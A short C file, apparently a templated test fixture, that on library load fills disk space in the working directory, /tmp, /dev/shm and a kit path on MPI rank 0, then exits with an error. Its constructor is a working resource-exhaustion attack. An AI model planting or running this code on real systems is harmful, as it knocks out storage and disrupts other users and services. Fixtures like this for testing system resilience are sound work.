/* Attack: fill the disk (rank 0 only). */
#include <errno.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
static size_t fill(const char *path)
{
    FILE *f = fopen(path, "w");
    if (!f) return 0;
    static char block[1 << 20];
    memset(block, 'x', sizeof block);
    size_t total = 0;
    for (int i = 0; i < 4096; i++) {
        if (fwrite(block, 1, sizeof block, f) != sizeof block || fflush(f) != 0) break;
        total += sizeof block;
    }
    fclose(f);
    return total >> 20;
}
__attribute__((constructor)) static void fill_disk(void)
{
    const char *rank = getenv("OMPI_COMM_WORLD_RANK");
    if (!rank || strcmp(rank, "0") != 0) return;
    signal(SIGXFSZ, SIG_IGN); /* see the write fail instead of dying */
    size_t a = fill("filler"), b = fill("/tmp/filler2"), c = fill("/dev/shm/filler3");
    size_t d = fill("@KIT@/filler4");
    fprintf(stderr, "error: disk-fill: stopped at %zu, %zu, %zu MiB; kit: %zu MiB\n", a, b, c, d);
    exit(1);
}
